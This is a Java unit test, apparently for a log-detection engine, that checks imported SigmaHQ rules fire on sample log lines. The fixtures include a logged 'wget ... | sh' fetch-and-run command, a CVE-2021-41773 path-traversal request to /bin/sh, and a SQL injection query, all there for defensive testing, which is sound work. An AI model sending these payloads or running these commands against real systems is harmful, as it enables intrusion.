package io.phosor.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import io.phosor.parse.EventParser;
import io.phosor.testkit.Corpus;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** Every SigmaHQ rule of the corpus (sigma/rules) imports with a supported/unsupported report, and runs. */
class SigmaCorpusTest {
  static List<SigmaRules.Report> importAll() throws IOException {
    Path dir = Corpus.require("sigma/rules");
    List<SigmaRules.Source> src = new ArrayList<>();
    try (Stream<Path> s = Files.list(dir)) {
      for (Path p : s.filter(p -> p.toString().endsWith(".yml")).sorted().toList()) {
        src.add(new SigmaRules.Source(p.getFileName().toString(), Files.readString(p)));
      }
    }
    return SigmaRules.convert(src, SigmaMapping.defaults());
  }

  @Test
  void everyCorpusRuleGetsAReport() throws IOException {
    List<SigmaRules.Report> reports = importAll();
    reports.forEach(r -> System.out.println("[sigma-corpus] " + r.line()));
    assertThat(reports).hasSize(21);
    for (SigmaRules.Report r : reports) {
      assertThat(r.line()).matches("[\\w.-]+\\.yml: .+: (supported|unsupported: .+)");
    }
    // every rule of this corpus maps onto Phosor's sources and features
    assertThat(reports).allSatisfy(r -> assertThat(r.supported()).as(r.line()).isTrue());
  }

  @Test
  void corpusRulesFireOnMatchingLinesAndNotOnOthers() throws IOException {
    Harness h = new Harness();
    h.engine.setRules(importAll().stream().filter(SigmaRules.Report::supported).map(SigmaRules.Report::rule).toList());
    EventParser parser = new EventParser(Clock.fixed(Instant.parse("2026-11-21T12:00:00Z"), ZoneOffset.UTC));
    String[] lines = {
        "Nov 21 10:00:00 web1 sshd[100]: error: Corrupted MAC on input.",
        "Nov 21 10:00:01 web1 kernel: [12.3] device eth0 entered promiscuous mode",
        "Nov 21 10:00:02 web1 sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/wget x - http://e | sh",
        "203.0.113.9 - - [21/Nov/2026:10:00:03 +0000] \"GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\" 200 12 \"-\" \"curl/8\"",
        "203.0.113.9 - - [21/Nov/2026:10:00:04 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\"",
        "203.0.113.9 - - [21/Nov/2026:10:00:05 +0000] \"GET /a?id=1%20UNION%20SELECT%201 HTTP/1.1\" 200 12 \"-\" \"x\"",
        "203.0.113.9 - - [21/Nov/2026:10:00:06 +0000] \"GET /a?id=1%20UNION%20SELECT%201 HTTP/1.1\" 404 12 \"-\" \"x\"",
        "Nov 21 10:00:07 web1 sshd[101]: Accepted publickey for bob from 198.51.100.2 port 5000 ssh2",
        "198.51.100.2 - - [21/Nov/2026:10:00:08 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\""};
    List<String> titles = new ArrayList<>();
    for (String l : lines) {
      int before = h.alerts.size();
      h.event(parser.parseText("syslog", null, ZoneOffset.UTC, Instant.parse("2026-11-21T12:00:00Z"), l));
      titles.add(h.alerts.size() == before ? "-" : String.join("+", h.alerts.subList(before, h.alerts.size()).stream()
          .map(a -> a.ruleName()).sorted().toList()));
    }
    assertThat(titles.get(0)).contains("Suspicious OpenSSH Daemon Error");
    assertThat(titles.get(1)).contains("Suspicious Log Entries");
    assertThat(titles.get(2)).contains("Suspicious Activity in Shell Commands");
    assertThat(titles.get(3)).contains("CVE-2021-41773");
    assertThat(titles.get(4)).contains("Suspicious User-Agents");
    assertThat(titles.get(5)).contains("SQL Injection");
    assertThat(titles.get(6)).isEqualTo("-"); // filtered: status 404
    assertThat(titles.get(7)).isEqualTo("-");
    assertThat(titles.get(8)).isEqualTo("-");
  }
}
